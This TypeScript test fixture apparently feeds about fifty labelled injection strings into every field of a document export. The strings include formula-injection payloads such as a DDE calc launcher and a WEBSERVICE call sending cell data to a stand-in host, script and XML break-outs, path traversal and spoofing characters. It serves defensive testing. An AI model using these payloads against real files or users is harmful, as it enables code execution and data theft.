/** How one string may do harm, by what it is aimed at. */
export interface Payload {
  readonly kind: string;
  readonly text: string;
}

const control = (from: number, to: number): string =>
  Array.from({ length: to - from + 1 }, (_, index) => String.fromCharCode(from + index)).join('办');

/** What is put through every field, one at a time. */
export const PAYLOADS: readonly Payload[] = [
  { kind: '公式：DDE', text: "=cmd|' /C calc'!A0" },
  { kind: '公式：加号', text: '+1+1' },
  { kind: '公式：减号', text: '-2+3' },
  { kind: '公式：@', text: '@SUM(A1)' },
  { kind: '公式：制表符后', text: '\t=1+1' },
  { kind: '公式：回车后', text: '\r=1+1' },
  { kind: '公式：换行后', text: '\n=1+1' },
  { kind: '公式：零宽后', text: '\u200b=1+1' },
  { kind: '公式：字节序标记后', text: '\ufeff=1+1' },
  { kind: '公式：全角', text: '＝1＋1' },
  { kind: '公式：数组', text: '{=1+1}' },
  { kind: '公式：链接', text: '=HYPERLINK("http://x.invalid","点")' },
  { kind: '公式：撇号', text: "'=1+1" },
  { kind: '公式：取数', text: '=WEBSERVICE("http://x.invalid/"&A1)' },
  { kind: '引用：表名', text: "'!A1" },
  { kind: '引用：逗号', text: '甲,=1+1,乙' },
  { kind: '引用：闭引号', text: '甲")+1+("乙' },
  { kind: '标记：脚本', text: '<script>alert(1)</script>' },
  { kind: '标记：图片', text: '<img src=x onerror="window.injected=1">' },
  { kind: '标记：脚本地址', text: 'javascript:window.injected=1' },
  { kind: 'XML：段落', text: '<w:p/>' },
  { kind: 'XML：闭文字', text: '</w:t></w:r><w:altChunk r:id="x"/>' },
  { kind: 'XML：闭单元格', text: '</t></is></c><f>1+1</f>' },
  { kind: 'XML：CDATA 结尾', text: ']]>' },
  { kind: 'XML：实体', text: '&amp;&#0;&xxe;' },
  { kind: 'XML：闭部件', text: '</data><data>' },
  { kind: 'XML：转义码', text: '_x0041__x000D_' },
  { kind: '占位：双花括号', text: '{{数}}' },
  { kind: '占位：名称', text: '{事项}{主送单位}' },
  { kind: '占位：循环', text: '{#循环 事项}{/}{@原样}' },
  { kind: '代换：美元号', text: "$&$1$`$'$$" },
  { kind: '引号：双', text: '甲"乙' },
  { kind: '引号：单', text: "甲'乙" },
  { kind: '字符：孤立高代理', text: '甲\ud800乙' },
  { kind: '字符：孤立低代理', text: '甲\udc00乙' },
  { kind: '字符：控制（00–0F）', text: `甲${control(0, 15)}` },
  { kind: '字符：控制（10–1F）', text: `甲${control(16, 31)}` },
  { kind: '字符：控制（7F–9F）', text: `甲${control(0x7f, 0x9f)}` },
  { kind: '字符：从右到左', text: '甲\u202excod.exe' },
  { kind: '字符：零宽', text: '甲\u200b\u200d\u2060乙' },
  { kind: '字符：非字符', text: '甲\ufffe\uffff乙' },
  { kind: '长：32,767', text: '长'.repeat(32_767) },
  { kind: '长：32,768', text: '长'.repeat(32_768) },
  { kind: '路径：上级', text: '../../a' },
  { kind: '路径：盘符', text: 'C:\\x' },
  { kind: '路径：设备名', text: 'CON' },
  { kind: '路径：星号', text: 'a*?|<>:b' },
  { kind: '页脚：代码', text: '&P&D&F&"黑体"&72' },
  { kind: '原型', text: '__proto__' },
  { kind: '原型：构造', text: 'constructor' },
];

/** Plain words: what they give is the measure of what a payload may give. */
export const PLAIN: Payload = { kind: '平常的字', text: '甲乙丙丁' };
